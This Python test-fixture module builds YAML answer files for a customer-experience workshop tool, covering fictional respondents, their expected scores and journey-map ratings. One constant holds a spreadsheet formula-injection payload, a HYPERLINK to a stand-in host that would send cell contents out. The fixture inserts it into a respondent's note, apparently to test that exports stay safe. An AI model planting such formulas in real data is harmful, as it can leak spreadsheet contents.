"""Answers files for workshop tests: a team of five over the demo checklist, written as people would."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from cxcheck.core import answers as answers_files
from cxcheck.core.aggregate import Workshop, aggregate
from cxcheck.core.catalog import Catalog, discover
from cxcheck.io import yamlsafe
from cxcheck.model import AnswerSet

FIVE: list[tuple[str, str, dict[str, Any]]] = [
    # name, role, answers to demo/often (frequency 0..4), demo/yes-no (0/1), demo/light (frequency)
    ("Olive Owner", "leadership", {"often": 4, "yes-no": 1, "light": 4}),
    ("Mark Manager", "leadership", {"often": 3, "yes-no": 1, "light": 3}),
    ("Fay", "frontline", {"often": 1, "yes-no": 1, "light": {"value": 1, "note": "we ask | every *time*"}}),
    ("Gus", "frontline", {"often": 0, "yes-no": 0, "light": 2}),
    ("Hal", "frontline", {"often": 2, "yes-no": 1, "light": {"value": "n/a", "reason": "back office"}}),
]
"""Expected figures, on the 0..100 scale:

- often: 100, 75, 25, 0, 50 -> mean 50, spread 100 (disagreement);
  leadership 87.5, frontline 25.
- yes-no: 100, 100, 100, 0, 100 -> mean 80, spread 100 (disagreement);
  leadership 100, frontline 66.67.
- light: 100, 75, 25, 50, n/a -> mean 62.5, spread 75 (disagreement);
  leadership 87.5, frontline 37.5.
- sections (first: often + yes-no, weight 2; second: light): team 65 / 62.5, checklist 64.2;
  leadership 93.75 / 87.5 (overall 91.7), frontline 45.8 / 37.5 (overall 43.1);
  perception gaps: second 50.0, first 47.9; overall 48.6.
"""


def write_answers(
    folder: Path, name: str, role: str | None, answers: dict[str, Any], version: str = "1.0", date: str = "2024-05-01"
) -> Path:
    """One participant's answers file, named after them as the workshop README suggests."""
    data: dict[str, Any] = {"respondent": name}
    if role:
        data["role"] = role
    data.update(
        organisation="Acme Ltd",
        date=date,
        checklists={"demo": version},
        answers={f"demo/{k}": v for k, v in answers.items()},
    )
    path = folder / f"answers-{name.split()[0].lower()}.yaml"
    path.write_text(yamlsafe.dump(data), encoding="utf-8")
    return path


def write_five(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return [write_answers(folder, name, role, answers) for name, role, answers in FIVE]


FOUR_MAPS: dict[str, dict[str, Any]] = {
    # the first four of FIVE, each rating the shared journey on their own map
    "Olive Owner": {"Hold line": ("magic", "our people are friendly"), "Greeting": ("mediocrity", None),
                    "Invoice": ("magic", None)},
    "Mark Manager": {"Hold line": ("magic", None), "Greeting": ("mediocrity", None), "Invoice": ("magic", None)},
    "Fay": {"Hold line": ("misery", "waited 12 minutes <b>on hold</b>"), "Greeting": ("mediocrity", "no smile"),
            "Invoice": ("mediocrity", None)},
    "Gus": {"Hold line": ("misery", None), "Greeting": ("mediocrity", None), "Invoice": (None, None),
            "Parking": ("misery", "no spaces")},
}  # fmt: skip
"""Expected: Hold line magic, magic, misery, misery -> spread 100, disagreement, "frontline says
misery and leadership says magic"; Greeting mediocrity by all -> agreed as it is; Invoice magic,
magic, mediocrity, not rated -> spread 50, a disagreement at the default threshold; Parking
(After-sales, only on Gus's map) misery -> agreed as it is."""

STAGE_OF = {"Hold line": "Visit or call", "Greeting": "Visit or call", "Invoice": "Invoice and payment",
            "Parking": "After-sales"}  # fmt: skip


def write_four_with_maps(folder: Path) -> list[Path]:
    """Four of the five, each answers file holding its own map of the shared journey."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, role, answers in FIVE[:4]:
        path = write_answers(folder, name, role, answers)
        data = yamlsafe.load(path).data
        journey: dict[str, list[dict[str, Any]]] = {}
        for point, (rating, note) in FOUR_MAPS[name].items():
            entry = (
                {"name": point, "owner": "Bo"}
                | ({"rating": rating} if rating else {})
                | ({"note": note} if note else {})
            )
            journey.setdefault(STAGE_OF[point], []).append(entry)
        data["workbook"] = {"journey": [{"name": s, "touchpoints": t} for s, t in journey.items()]}
        path.write_text(yamlsafe.dump(data), encoding="utf-8")
        paths.append(path)
    return paths


TEAM = [("Olive Owner", "leadership"), ("Mark Manager", "leadership"), ("Fay", "frontline"), ("Gus", "frontline")]
HOSTILE_NOTE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click") @SUM(1+1)'


def write_bundled_team(folder: Path) -> list[Path]:
    """The bundled example of a workshop: four people over every bundled checklist, answered apart.

    Leadership answer high and the front line low on every third item (a disagreement), the
    rest close together; one note is a formula, as a hostile or careless hand might write it.
    """
    from cxcheck.core.catalog import discover

    folder.mkdir(parents=True, exist_ok=True)
    checklists = [e.checklist for e in discover()]
    paths = []
    for person, (name, role) in enumerate(TEAM):
        chosen: dict[str, Any] = {}
        for checklist in checklists:
            for n, (_, item) in enumerate(checklist.items):
                values = [o.value for o in checklist.scale_of(item).options]
                if n % 3 == 0:
                    pick = values[-1] if role == "leadership" else values[0]
                else:
                    pick = values[min(len(values) - 1, (n + person) % len(values))]
                chosen[checklist.full_id(item)] = pick
        first = checklists[0].full_id(checklists[0].items[0][1])
        if person == 2:
            chosen[first] = {"value": chosen[first], "note": HOSTILE_NOTE}
        if person == 3:
            last = checklists[-1].full_id(checklists[-1].items[-1][1])
            chosen[last] = {"value": "n/a", "reason": "+not our business"}
        data = {
            "respondent": name, "role": role, "organisation": "Harbour Street Bakery", "date": "2024-05-01",
            "checklists": {c.id: c.version for c in checklists}, "answers": chosen,
        }  # fmt: skip
        path = folder / f"answers-{name.split()[0].lower()}.yaml"
        path.write_text(yamlsafe.dump(data), encoding="utf-8")
        paths.append(path)
    return paths


def answer_sets(folder: Path, checklist_dir: Path) -> tuple[Catalog, list[AnswerSet]]:
    """Every answers file of a test workshop folder, loaded against the checklists in ``checklist_dir``."""
    catalog = discover([checklist_dir])
    return catalog, [answers_files.load(p, catalog) for p in sorted(folder.glob("*.yaml"))]


def demo_workshop(folder: Path, checklist_dir: Path) -> Workshop:
    """A test workshop folder aggregated on the demo checklist, as ``cxcheck report FOLDER`` does."""
    catalog, sets = answer_sets(folder, checklist_dir)
    return aggregate([catalog.get("demo")], sets)
